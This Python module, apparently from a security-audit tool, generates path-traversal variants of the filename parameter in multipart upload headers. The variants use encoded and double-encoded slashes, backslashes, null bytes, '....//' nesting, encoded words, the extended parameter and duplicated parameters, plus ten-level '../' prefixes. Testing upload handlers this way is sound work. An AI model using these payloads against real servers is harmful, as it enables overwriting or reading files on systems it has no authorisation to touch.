"""Ways in which a form names its file, so that a careless program reads a path. Pure.

Each gives the raw parameters of a Content-Disposition (RFC 7578, 4.2) for a path.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from urllib.parse import quote

DEPTH = 10
"""Folders that are climbed: more than any path has. What is too much stays at the root."""

Naming = Callable[[str, str], str]
"""The parameters for a path, with a harmless name at hand."""


def plainly(name: str) -> str:
    """The parameters as browsers give them."""
    return f'filename="{name}"'


def _written(change: Callable[[str], str]) -> Naming:
    return lambda path, _: plainly(change(path))


def _extended(path: str) -> str:
    return f"filename*=UTF-8''{quote(path, safe='')}"


def _encoded_word(path: str) -> str:
    return f"=?utf-8?B?{base64.b64encode(path.encode()).decode()}?="


NAMINGS: dict[str, Naming] = {
    "plainly": _written(str),
    "without quotes": lambda path, _: f"filename={path}",
    "behind a folder": _written(lambda p: f"l7audit/../{p.lstrip('/')}"),
    "with backslashes": _written(lambda p: p.replace("/", "\\")),
    "with encoded slashes": _written(lambda p: p.replace("/", "%2f")),
    "with encoded dots and slashes": _written(
        lambda p: p.replace("../", "%2e%2e/").replace("/", "%2f")
    ),
    "with slashes encoded twice": _written(lambda p: p.replace("/", "%252f")),
    "with steps within steps": _written(lambda p: p.replace("../", "....//")),
    "with zero bytes within steps": _written(lambda p: p.replace("../", "..\0/")),
    "as an encoded word": _written(_encoded_word),
    "in the extended parameter": lambda path, _: _extended(path),
    "in the extended parameter beside a plain one": lambda path, plain: (
        f"{plainly(plain)}; {_extended(path)}"
    ),
    "in a second parameter": lambda path, plain: f"{plainly(plain)}; {plainly(path)}",
    "in a first parameter of two": lambda path, plain: f"{plainly(path)}; {plainly(plain)}",
}


def to_the_root(path: str) -> list[str]:
    """A whole path as it is, and from any folder."""
    return [path, "../" * DEPTH + path.lstrip("/")]
